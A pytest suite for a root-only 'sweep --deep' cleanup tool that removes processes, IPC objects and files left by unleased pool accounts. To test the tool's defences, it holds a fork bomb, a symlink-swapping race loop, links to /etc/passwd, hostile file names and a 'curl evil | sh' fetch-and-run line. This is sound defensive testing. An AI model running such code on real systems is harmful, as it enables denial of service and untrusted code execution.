"""``nodewrap sweep --deep``: what belongs to leasable ids without a lease is found and, when told, removed; nothing else is."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import psutil
import pytest

from nodewrap import deep
from nodewrap import live as live_runs
from nodewrap.deep import things
from nodewrap.deep.ids import Locks
from nodewrap.guard import parse_guard
from tests.node import MAP_FIRST, RULE, abandon, alive, until

#: One process at a time, which is another one before a listing comes to it.
HOPS = "import os, time\nend = time.time() + 60\nwhile time.time() < end:\n  if os.fork(): os._exit(0)"
#: As the account: all kinds of things outside the file system. Prints "ready", and stays.
MAKE_IPC = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def ok(value):
    assert value >= 0, os.strerror(ctypes.get_errno())
    return value
name = sys.argv[1].encode()
shm = ok(libc.shmget(0, 4096, 0o1600)); msg = ok(libc.msgget(0, 0o1600)); sem = ok(libc.semget(0, 1, 0o1600))
mq_open = getattr(libc, "mq_open", None) or ctypes.CDLL("librt.so.1", use_errno=True).mq_open
ok(mq_open(b"/" + name, os.O_CREAT | os.O_RDWR, 0o600, None))
number = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
key = ok(libc.syscall(number, b"user", name, b"secret", 6, -4))
print(shm, msg, sem, f"{key & 0xffffffff:08x}", flush=True)
"""


def sweep(node, *options, code=None):
    """``nodewrap sweep --deep --json`` -> [finding]."""
    argv = [node.site.binary, "sweep", "--deep", "--json", *map(str, options)]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=200, check=False, cwd="/", env=node.site.environment(node.pilot))
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode in ((0, 1) if code is None else (code,)), done
    return [row for row in map(json.loads, done.stdout.splitlines()) if "kind" in row]


def of(found, kind, uid):
    return {row["what"]: row for row in found if (row["kind"], row["uid"]) == (kind, uid)}


def as_account(account, *argv, **options):
    uid, gid = (account, account) if isinstance(account, int) else (account.uid, account.gid)
    return subprocess.Popen(argv, user=uid, group=gid, extra_groups=[], cwd="/", stdin=subprocess.DEVNULL, **options)


@pytest.fixture
def node(setuid_node):
    """What a test leaves is taken away behind it, by what it tests."""
    yield setuid_node
    setuid_node.close()
    assert setuid_node.sweep()[0] == 0
    sweep(setuid_node, "--remove")


@pytest.fixture
def pool(node):
    return node.site.accounts["pool01"]


@pytest.fixture
def place():
    """A directory in /tmp for everybody, as payloads have there."""
    path = Path(f"/tmp/nwt-deep-{os.getpid()}")
    path.mkdir()
    path.chmod(0o777)
    yield path
    subprocess.run(["umount", "-R", "-l", path / "pool/bound"], stderr=subprocess.DEVNULL, check=False)
    subprocess.run(["rm", "-rf", "--", path], check=True)


def make_tree(path, uid, gid):
    """A directory of that owner with a file in it."""
    (path / "inside").mkdir(parents=True)
    (path / "inside/file").write_text("x")
    for name in (path, path / "inside", path / "inside/file"):
        os.chown(name, uid, gid, follow_symlinks=False)
    return path


# ---- each kind ----


def test_a_process_without_a_lease_is_found_and_killed(node, pool):
    process = as_account(pool, "/bin/sleep", "300")
    found = of(sweep(node, code=1), "process", pool.uid)
    assert list(found) == [str(process.pid)]
    row = found[str(process.pid)]
    assert (row["owner"], row["detail"], row["removed"]) == (pool.name, "sleep", False)
    assert row["age"] < 60
    assert process.poll() is None, "it is only reported"
    assert of(sweep(node, "--remove", code=0), "process", pool.uid)[str(process.pid)]["removed"]
    assert process.wait(5) == -9
    assert sweep(node, code=0) == []


def test_who_forks_and_ends_again_and_again_is_found_and_ended(node, pool):
    as_account(pool, "/usr/bin/python3", "-S", "-c", HOPS, start_new_session=True).wait()
    found = [row for row in sweep(node, code=1) if (row["kind"], row["uid"]) == ("process", pool.uid)]
    assert len(found) == 1
    assert [row["left"] for row in sweep(node, "--remove", code=0)] == [""]
    assert sweep(node, code=0) == []


def test_a_process_that_is_fetched_while_it_is_looked_at_is_not_found(pool, monkeypatch):
    """Its pid has no start time any more, nor had it one a moment later: the two were taken for one process that is still there."""
    process = as_account(pool, "/bin/sleep", "300")
    status = psutil.Process.status

    def and_it_ends(self):
        told = status(self)
        if self.pid == process.pid and process.poll() is None:
            process.kill()
            process.wait()
        return told

    monkeypatch.setattr(psutil.Process, "status", and_it_ends)
    assert things.processes((pool.uid,)) == []
    assert process.returncode == -9, "the listing came upon it"


def test_a_process_whose_pid_is_free_again_is_not_there_any_more(pool):
    process = as_account(pool, "/bin/sleep", "300")
    [found] = things.processes((pool.uid,))
    assert deep._still(found)
    process.kill()
    process.wait()
    assert not deep._still(found)


def test_who_forks_and_ends_again_and_again_is_ended_however_late_the_signal_comes(pool, monkeypatch):
    """A killer that gets no processor for long is not taken for one that has been, and nobody for ended whom a listing does not show."""
    as_account(pool, "/usr/bin/python3", "-S", "-c", HOPS, start_new_session=True).wait()
    at_once = things._kill_all
    monkeypatch.setattr(things, "_kill_all", lambda: (time.sleep(1.5), at_once())[1])
    assert things.end_processes(pool.uid, pool.gid) == ""
    assert not things.fleeting((pool.uid,))


def test_a_signal_that_could_not_be_sent_is_told(pool, monkeypatch):
    process = as_account(pool, "/bin/sleep", "300")
    monkeypatch.setattr(things, "_kill", lambda one: None)
    monkeypatch.setattr(things, "_kill_all", lambda: os._exit(3))
    assert things.end_processes(pool.uid, pool.gid).startswith("kill(-1): ")
    assert process.poll() is None
    process.kill()
    process.wait()


def test_a_fork_bomb_is_ended(node, pool):
    bomb = "import os\nfor _ in range(20): os.fork()\nwhile True:\n  try:\n    if os.fork(): os._exit(0)\n  except OSError: pass"
    limits = ["prlimit", "--nproc=150", "/usr/bin/python3", "-I", "-c", bomb]
    process = as_account(pool, *limits, start_new_session=True, stderr=subprocess.DEVNULL)
    until(lambda: len(node.site.processes(pool)) > 50, "it is at work")
    assert all(row["removed"] for row in sweep(node, "--remove", code=0))
    process.wait()
    assert not [pid for pid in node.site.processes(pool) if alive(pid)]


def test_ipc_objects_queues_and_keys_are_found_and_removed(node, pool):
    name = f"nwt{os.getpid()}"
    shm, msg, sem, key = as_account(pool, "/usr/bin/python3", "-I", "-c", MAKE_IPC, name, stdout=subprocess.PIPE).communicate()[0].decode().split()
    found = sweep(node, code=1)
    assert set(of(found, "ipc", pool.uid)) == {f"shm {shm}", f"msg {msg}", f"sem {sem}"}
    assert set(of(found, "queue", pool.uid)) == {f"/{name}"}
    assert of(found, "key", pool.uid)[key]["detail"] == f"user {name}: 6"
    done = sweep(node, "--remove", code=0)
    assert [row["what"] for row in done] == [row["what"] for row in found]
    assert all(row["removed"] for row in done)
    assert sweep(node, code=0) == []
    listed = subprocess.run(["ipcs"], capture_output=True, text=True, check=True).stdout
    assert pool.name not in listed


def test_files_are_found_everywhere_and_removed(node, pool, place):
    spools = [Path("/var/spool/cron/crontabs"), Path("/var/lib/systemd/linger")]
    made = [path for path in spools if not path.exists()]
    for path in made:
        path.mkdir(parents=True)
    files = {Path(f"{where}/nwt{os.getpid()}") for where in ("/tmp", "/var/tmp", "/dev/shm", str(pool.home))} | {spools[0] / pool.name}
    try:
        for path in files:
            path.write_text("x")
            os.chown(path, pool.uid, pool.gid)
        (spools[1] / pool.name).touch()
        tree = make_tree(place / "pool", pool.uid, pool.gid)
        found = sweep(node, code=1)
        rows = of(found, "file", pool.uid)
        assert set(rows) == {*map(str, files), str(tree)}
        assert (rows[str(tree)]["entries"], rows[str(tree)]["detail"]) == (3, "directory")
        assert set(of(found, "linger", pool.uid)) == {str(spools[1] / pool.name)}
        assert all(row["removed"] for row in sweep(node, "--remove", code=0))
        assert not any(os.path.lexists(path) for path in [*files, tree, spools[1] / pool.name])
        assert pool.home.is_dir(), "the home itself is no leftover"
        assert sweep(node, "--remove", code=0) == []
    finally:
        for path in [*files, spools[1] / pool.name]:
            path.unlink(missing_ok=True)
        for path in made:
            path.rmdir()


def test_what_an_account_has_from_the_skeleton_is_no_leftover(node, pool):
    skeleton = [path for path in Path("/etc/skel").iterdir() if path.is_file()]
    if not skeleton:
        pytest.skip("/etc/skel is empty here")
    for path in skeleton:
        shutil.copy(path, pool.home)
        os.chown(pool.home / path.name, pool.uid, pool.gid)
    assert sweep(node, code=0) == []
    (pool.home / skeleton[0].name).write_text("curl evil | sh\n")
    assert set(of(sweep(node, "--remove"), "file", pool.uid)) == {str(pool.home / skeleton[0].name)}
    for path in skeleton:
        (pool.home / path.name).unlink(missing_ok=True)


def test_a_work_root_is_looked_at_when_it_is_named(node, pool, home):
    tree = make_tree(home / "scratch", pool.uid, pool.gid)  # the pilot's directory, which the account may not write to
    assert sweep(node, code=0) == []
    assert set(of(sweep(node, "--path", home, code=1), "file", pool.uid)) == {str(tree)}
    assert all(row["removed"] for row in sweep(node, "--path", home, "--remove", code=0))
    assert not tree.exists()


def test_ids_of_map_blocks_count_too(node, place):
    uid = MAP_FIRST + 65536 + 5
    process, tree = as_account(uid, "/bin/sleep", "300"), make_tree(place / "mapped", uid, uid)
    found = sweep(node, code=1)
    assert (set(of(found, "process", uid)), set(of(found, "file", uid))) == ({str(process.pid)}, {str(tree)})
    sweep(node, "--remove", code=0)
    assert process.wait(5) == -9
    assert not tree.exists()


# ---- whose it is not ----


def test_what_belongs_to_ids_that_no_rule_leases_is_left_alone(node, place):
    """In the guard's switch-uid and out of the policy; and the pilot's own."""
    others = [node.site.accounts["user2"], node.site.accounts["pool03"], node.pilot]
    processes = [as_account(other, "/bin/sleep", "300") for other in others]
    trees = [make_tree(place / other.name, other.uid, other.gid) for other in others]
    try:
        assert sweep(node, "--remove", code=0) == []
        assert all(process.poll() is None for process in processes)
        assert all((tree / "inside/file").exists() for tree in trees)
    finally:
        for process in processes:
            process.kill()
            process.wait()


def test_an_account_that_another_rule_gives_shared_is_left_alone(node, place):
    text, user = node.policy_text(), node.site.accounts["user1"]
    identity = f'{{ mode = "switch", account = "{user.name}", lease = "shared" }}'
    tree = make_tree(place / "shared", user.uid, user.gid)
    node.site.policy(text + RULE.format(kind="other", identity=identity))
    try:
        assert sweep(node, "--remove", code=0) == []
    finally:
        node.site.policy(text)
    assert tree.exists()
    assert set(of(sweep(node, code=1), "file", user.uid)) == {str(tree)}


def test_map_ids_that_are_accounts_or_delegated_are_left_alone(node, place, session):
    """A guard whose map-uid is too wide must not cost anybody their files."""
    user = node.site.accounts["user2"]
    tree = make_tree(place / "account", user.uid, user.gid)
    node.site.guard(map_uid=f"{user.uid}-{user.uid}")
    done = subprocess.run([node.site.binary, "sweep", "--deep", "--remove"], capture_output=True, text=True, check=False, cwd="/")
    node.open_guard()
    assert (done.returncode, done.stdout) == (0, "")
    assert f"uid {user.uid} of map-uid is an account's" in done.stderr
    assert tree.exists()


@pytest.mark.parametrize("kind", ["pool", "map", "block"])
def test_what_a_live_run_has_is_left_alone(node, place, kind):
    live = node.start(kind, "/bin/sleep", "300", profile="none")
    uid = os.stat(f"/proc/{live.pid}").st_uid
    tree = make_tree(place / "live", uid, uid)
    assert sweep(node, "--remove", code=0) == []
    assert alive(live.pid)
    assert tree.exists()
    live.process.kill()
    live.process.wait()
    until(node.is_clean, "the run has ended")
    assert set(of(sweep(node, "--remove", code=0), "file", uid)) == {str(tree)}


def test_what_a_broken_lease_may_mean_is_left_alone(node, place):
    """Its ids are not known from it, but from the locks that were taken for it."""
    live = node.start("pool", "/bin/sleep", "300")
    uid = os.stat(f"/proc/{live.pid}").st_uid
    abandon(node, live)
    lease = node.site.state / "leases" / f"{live.events[0]['run']}.lease"
    text = lease.read_text()
    lease.write_text("nodewrap-lease 7\n")
    tree = make_tree(place / "broken", uid, uid)
    assert sweep(node, "--remove", code=1) == []
    assert tree.exists()
    lease.write_text(text)
    assert set(of(sweep(node, "--remove", code=0), "file", uid)) == {str(tree)}


def test_an_id_that_is_held_is_not_leased_and_a_leased_one_is_not_held(node):
    at = live_runs.Site("", parse_guard((node.site.sysconf / "guard").read_bytes()), 0)
    locks, user = Locks(at), node.site.accounts["user1"]
    with locks.hold(user.uid, True) as free:
        assert free
        ran = node.run("static", "/bin/true")
        assert (ran.rc, b"NW-POOL-BUSY" in ran.err) == (202, True)
    assert node.run("static", "/bin/true").rc == 0
    live = node.start("static", "/bin/sleep", "60")
    with locks.hold(user.uid, True) as free:
        assert not free
    block = node.start("block", "/bin/sleep", "60")
    uid = os.stat(f"/proc/{block.pid}").st_uid
    with locks.hold(uid + 7, False) as free:
        assert not free, "in the middle of a block"
    live.process.kill()


# ---- trees made to mislead ----


def test_nothing_is_reached_through_links_mounts_and_other_peoples_files(node, pool, place, session):
    other = node.site.accounts["user2"]
    tree = make_tree(place / "pool", pool.uid, pool.gid)
    victim = make_tree(place / "victim", other.uid, other.gid)
    own = make_tree(place / "elsewhere", other.uid, other.gid)  # of the account too, but on the other side of a mount
    (own / "kept").write_text("x")
    os.chown(own / "kept", pool.uid, pool.gid)
    os.symlink(victim, tree / "link")
    os.symlink("/etc/passwd", tree / "inside/passwd")
    os.link(victim / "inside/file", tree / "hard")
    foreign = tree / "inside/foreign"
    foreign.write_text("x")
    os.chown(foreign, other.uid, other.gid)
    (tree / "bound").mkdir()
    subprocess.run(["mount", "--bind", own, tree / "bound"], check=True)
    for name in ("link", "inside/passwd", "bound"):
        os.chown(tree / name, pool.uid if name != "bound" else other.uid, -1, follow_symlinks=False)
    found = of(sweep(node, "--remove", code=1), "file", pool.uid)
    assert found[str(tree)]["left"]
    assert found[str(own / "kept")]["removed"], "found where it really is"
    left = {str(path.relative_to(tree)) for path in tree.rglob("*") if "bound/" not in f"{path}"}
    assert left == {"hard", "inside", "inside/foreign", "bound"}
    assert (victim / "inside/file").read_text() == "x"
    assert (own / "inside/file").exists()
    assert Path("/etc/passwd").exists()


def test_a_mount_within_a_tree_is_not_entered(node, pool, place, home):
    """Even one of the same file system, with the account's own files in it: it shows a place that nobody asked to look at."""
    tree, kept = make_tree(place / "pool", pool.uid, pool.gid), make_tree(home / "kept", pool.uid, pool.gid)
    (tree / "bound").mkdir()
    os.chown(tree / "bound", pool.uid, pool.gid)
    subprocess.run(["mount", "--bind", kept, tree / "bound"], check=True)
    (row,) = sweep(node, "--remove", code=1)
    assert (row["what"], row["left"]) == (str(tree), f"{tree}/bound: something is mounted on it")
    assert (kept / "inside/file").read_text() == "x"
    subprocess.run(["umount", tree / "bound"], check=True)
    assert sweep(node, "--remove", code=0)[0]["removed"]
    assert (kept / "inside/file").read_text() == "x"
    shutil.rmtree(kept)


def test_deep_odd_and_unreadable_trees_go_all_the_same(node, pool, place):
    code = """
import os, sys
os.chdir(sys.argv[1])
os.mkdir("tree"); os.chdir("tree")
for name in (b"new\\nline", b"\\xff\\xfe", b"-rf", b" ", b"\\x1b[31m"): open(name, "w").close()
os.mkdir("closed"); open("closed/x", "w").close(); os.chmod("closed", 0)
os.mkfifo("fifo"); os.mkdir("sticky"); os.chmod("sticky", 0o3777); open("sticky/x", "w").close()
os.mkdir("deep"); os.chdir("deep")
for _ in range(3000): os.mkdir("d" * 100); os.chdir("d" * 100)
open("bottom", "w").close()
"""
    as_account(pool, "/usr/bin/python3", "-I", "-c", code, place).wait()
    found = of(sweep(node, code=1), "file", pool.uid)
    assert list(found) == [f"{place}/tree"]
    assert found[f"{place}/tree"]["entries"] == 3000 + 13
    assert sweep(node, "--remove", code=0)[0]["removed"]
    assert list(place.iterdir()) == []


def test_a_directory_that_is_swapped_for_a_link_all_the_time_leads_nowhere(node, pool, place):
    """Another user, who owns the directory above, plays with the names while root removes."""
    other, victim = node.site.accounts["user2"], place / "victim"
    victim.mkdir()
    (victim / "inside").mkdir()
    (victim / "inside/file").write_text("root's")
    yard = place / "yard"
    yard.mkdir()
    os.chown(yard, other.uid, other.gid)
    swap = "while :; do mv -T $0/d $0/aside; ln -s $1 $0/d; rm $0/d; mv -T $0/aside $0/d; done"
    swapper = as_account(other, "/bin/sh", "-c", swap, str(yard), str(victim), stderr=subprocess.DEVNULL)
    try:
        end = time.monotonic() + 8
        while time.monotonic() < end:
            shutil.rmtree(place / "made", ignore_errors=True)
            made = make_tree(place / "made", pool.uid, pool.gid)  # beside it: below names that are swapped it would be made in the victim
            with contextlib.suppress(OSError):  # a link, or full
                made.rename(yard / "d")
            sweep(node, "--remove")
            assert (victim / "inside/file").read_text() == "root's"
    finally:
        swapper.kill()
        swapper.wait()


def test_a_place_that_other_nodes_share_is_not_looked_at(node):
    argv = [node.site.binary, "sweep", "--deep", "--path", "/proc/sys"]
    done = subprocess.run(argv, capture_output=True, text=True, check=False, cwd="/")
    assert done.returncode == 0
    assert "/proc/sys is on proc" in done.stderr


def test_two_at_once_and_again_make_no_difference(node, pool, place):
    for number in range(20):
        make_tree(place / f"tree{number}", pool.uid, pool.gid)
    argv = [node.site.binary, "sweep", "--deep", "--remove", "--json"]
    both = [subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd="/") for _ in range(2)]
    said = b"".join(part for process in both for part in process.communicate(timeout=60))
    assert [process.returncode for process in both] == [0, 0], [line for line in said.splitlines() if b'"removed": true' not in line]
    assert list(place.iterdir()) == []


def test_two_at_once_do_not_end_each_others_helpers(node, place):
    """Each holds other ids: kill(-1) in the name of one must not reach who acts in the name of another (its real uid is asked for too)."""
    uids = range(MAP_FIRST, MAP_FIRST + 40)
    for uid in uids:
        make_tree(place / f"tree{uid}", uid, uid)
    argv = [node.site.binary, "sweep", "--deep", "--remove", "--json"]
    both = [subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd="/") for _ in range(2)]
    said = [part for process in both for part in process.communicate(timeout=60)]
    assert [process.returncode for process in both] == [0, 0], said
    assert list(place.iterdir()) == []


# ---- who may ----


def test_it_is_roots_alone_and_not_for_sites_without_privilege(node, userns_node):
    denied = node.site.run([node.site.binary, "sweep", "--deep"])
    assert (denied.rc, denied.out) == (202, b"")
    userns = userns_node.site.run([userns_node.site.binary, "sweep", "--deep"])
    assert userns.rc == 202
    assert b"NW-DEEP" in userns.err


def test_the_report_for_people_names_kind_owner_path_and_time(node, pool, place):
    days = [time.strftime("%Y-%m-%dT", time.gmtime())]
    tree = make_tree(place / "pool", pool.uid, pool.gid)
    days.append(time.strftime("%Y-%m-%dT", time.gmtime()))
    os.rename(tree, f"{place}/\x1b[31mred")
    done = subprocess.run([node.site.binary, "sweep", "--deep"], capture_output=True, text=True, check=False, cwd="/")
    (line,) = done.stdout.splitlines()
    assert line.split()[:2] == ["file", pool.name]
    assert f"{place}/\\x1b[31mred" in line
    assert any(day in line for day in days)
